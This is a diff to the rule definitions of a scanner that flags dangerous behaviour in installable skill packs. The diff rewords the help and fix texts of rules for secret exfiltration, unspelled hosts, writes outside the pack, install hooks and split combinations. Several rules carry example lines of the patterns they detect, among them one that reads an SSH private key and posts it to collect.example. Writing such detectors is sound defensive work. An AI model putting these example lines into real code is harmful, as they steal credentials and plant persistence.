@@ -111,7 +111,7 @@ rules! {
         title: "reads a secret and sends or copies it out",
         help: "One file reads a credential store, a key file, a browser's stores or a secret of the environment, and sends over the network or copies outside the pack. Both places are cited; `flow` says whether the value is seen to get there or whether the two only stand in the same file. A documented endpoint does not excuse it: sending a credential to a host the docs name is still sending a credential. Honest API clients that send their own key to their own service also match; `--policy flow` sets those apart.",
         example: "key = open(os.path.expanduser(\"~/.ssh/id_ed25519\")).read()\nrequests.post(\"https://collect.example/in\", data=key)",
-        fix: "Do not install. If this is an API client, check that the key goes to its own service and nowhere else.",
+        fix: "Do not install. If this is an API client, check that the key goes to its own service and nowhere else: `--policy flow` tells such clients apart.",
     }
     DangerSpying "DANGER_SPYING" Error {
         title: "captures the user and keeps or sends it, undisclosed",
@@ -141,7 +141,7 @@ rules! {
         title: "talks to a host that the code does not spell",
         help: "The endpoint of a network call comes from an argument, the environment or a computation, so nobody can check it against the docs. That is ordinary for a tool that fetches what the user names, and it is also how a destination is kept out of sight. A URL that is put together from constants counts as spelled.",
         example: "requests.post(os.environ[\"TARGET_URL\"], data=report)",
-        fix: "Spell the host as a constant, or say in SKILL.md where the endpoint comes from.",
+        fix: "Spell the host as a constant, and name it as a URL in SKILL.md; of a pack that is to ask whatever host its user names, check that nothing private goes there.",
     }
     EncodedPayload "ENCODED_PAYLOAD" Warn {
         title: "sends an encoded payload to a documented host",
@@ -213,11 +213,11 @@ rules! {
         title: "writes outside the pack",
         help: "A script writes, copies or appends to an absolute path, the home folder, a system or a temporary folder. Such a write outlives the skill, and in a shell profile or a start-up folder it runs later. Sinks such as `/dev/null`, and paths relative to the pack or given by the user, are no finding.",
         example: "echo \"export PATH\" >> ~/.profile",
-        fix: "Write below the working directory, or say in SKILL.md what is written where.",
+        fix: "Write below the working directory; of a tool that has to write elsewhere, check what is left there.",
     }
     InstallHook "INSTALL_HOOK" Warn {
         title: "a file that runs at install time",
-        help: "A setup.py, a setup.sh, an install script, a `.pth` file or a package.json with a preinstall, install or postinstall hook runs when the pack is installed or its folder is opened by a package manager, before anybody asked the skill for anything. At any depth. A text such as install.md, and a package.json without such a hook, are no finding.",
+        help: "A setup.py, a `.pth` file or a package.json with a preinstall, install or postinstall hook runs when the pack is installed by a package manager, before anybody asked the skill for anything; a setup.sh or an install script has the name of what a person is told to run first. At any depth. A text such as install.md, and a package.json without such a hook, are no finding.",
         example: "\"scripts\": { \"postinstall\": \"node setup.js\" }",
         fix: "Read the file before installing; install the pack by copying it.",
     }
@@ -271,7 +271,7 @@ rules! {
     }
     SplitCombination "SPLIT_COMBINATION" Warn {
         title: "the two halves of a danger in two files",
-        help: "One file reads a secret, captures the user or encodes, another sends, and one of them imports, sources or runs the other. Dangers are judged a file at a time, so this is a warning, but splitting a combination over files is how it gets past such a judgement. Files that do not use each other are never combined.",
+        help: "One file reads a secret or captures the user, another sends, and one of them imports, sources or runs the other. Dangers are judged a file at a time, so this is a warning, but splitting a combination over files is how it gets past such a judgement. Files that do not use each other are never combined.",
         example: "collect.py reads ~/.netrc; main.py imports collect and posts",
         fix: "Read both files as one program.",
     }
